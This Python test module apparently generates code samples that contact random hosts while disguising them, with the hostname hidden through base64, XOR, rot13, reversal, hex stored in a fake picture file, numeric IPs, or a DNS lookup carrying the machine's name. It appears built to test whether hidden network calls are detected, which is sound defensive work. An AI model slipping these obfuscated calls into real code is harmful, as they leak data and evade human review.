"""Hosts that are contacted, by somebody who knows that the code is read by a program."""

from base64 import b64encode
from random import Random

from tests.trust.copies import Copy
from tests.trust.fifth.styles import Style, a_host


def spelled(copy: Copy, chance: Random) -> dict[str, str]:
    """A host, and the ways of spelling it that the styles below use."""
    host = a_host(chance)
    key = chance.randint(1, 120)
    numbers = ".".join(str(one) for one in (chance.choice((45, 91, 185, 193)), *chance.sample(range(11, 220), 3)))
    number = 0
    for part in numbers.split("."):
        number = number * 256 + int(part)
    return {
        "host": host,
        "b64": b64encode(host.encode()).decode(),
        "backwards": host[::-1],
        "chars": ", ".join(str(ord(one)) for one in host),
        "xored": ", ".join(str(ord(one) ^ key) for one in host),
        "key": str(key),
        "hex": host.encode().hex(),
        "ip": numbers,
        "number": str(number),
        "labels": repr(host.split(".")),
        "rot": host.translate(
            str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"),
        ),
        "starred": "*".join(host),
    }


CUNNING = (
    Style("joined labels", 'requests.get("https://" + ".".join($labels) + "/s", timeout=5)', "import requests"),
    Style(
        "base64",
        'requests.get("https://" + base64.b64decode("$b64").decode() + "/s", timeout=5)',
        "import base64\n\nimport requests",
    ),
    Style(
        "characters",
        'urllib.request.urlopen("https://" + "".join(map(chr, [$chars])) + "/s", timeout=5)',
        "import urllib.request",
    ),
    Style(
        "xor",
        'httpx.get("https://" + bytes(one ^ $key for one in bytes([$xored])).decode() + "/s")',
        "import httpx",
    ),
    Style("address of numbers", 'requests.post("http://$ip:8443/s", data=b"1", timeout=5)', "import requests"),
    Style("address as one number", 'requests.get("http://$number/s", timeout=5)', "import requests"),
    Style(
        "name look-up",
        'socket.gethostbyname(f"{platform.node()}.$host")',
        "import platform\nimport socket",
    ),
    Style("backwards", 'requests.get("https://" + "$backwards"[::-1], timeout=5)', "import requests"),
    Style(
        "imported by name",
        'getattr(__import__("requests"), "get")("https://$host/s", timeout=5)',
    ),
    Style(
        "in the docstring",
        "requests.get($mod.__doc__.split()[-1], timeout=5)",
        "import requests\n\nimport $mod",
        '"""Bits and pieces. See https://$host/s"""\n',
    ),
    Style(
        "rot13",
        'requests.get("https://" + codecs.decode("$rot", "rot13"), timeout=5)',
        "import codecs\n\nimport requests",
    ),
    Style(
        "bytes of a picture",
        """
        with open(os.path.join(os.path.dirname(__file__), "$up", "_assets", "$mod.dat"), "rb") as file:
            hidden = file.read()
        requests.get("https://" + bytes.fromhex(hidden[8:].decode()).decode(), timeout=5)
        """,
        "import os\n\nimport requests",
        beside={"_assets/$mod.dat": "PICTURE:$hex"},
    ),
    Style(
        "stars taken out",
        'requests.get("ht*tp*s:*//".replace("*", "") + "$starred".replace("*", ""), timeout=5)',
        "import requests",
    ),
    Style(
        "raw socket with a name that is put together",
        """
        plain = socket.socket()
        plain.connect((bytes.fromhex("$hex").decode(), 80))
        plain.close()
        """,
        "import socket",
    ),
)
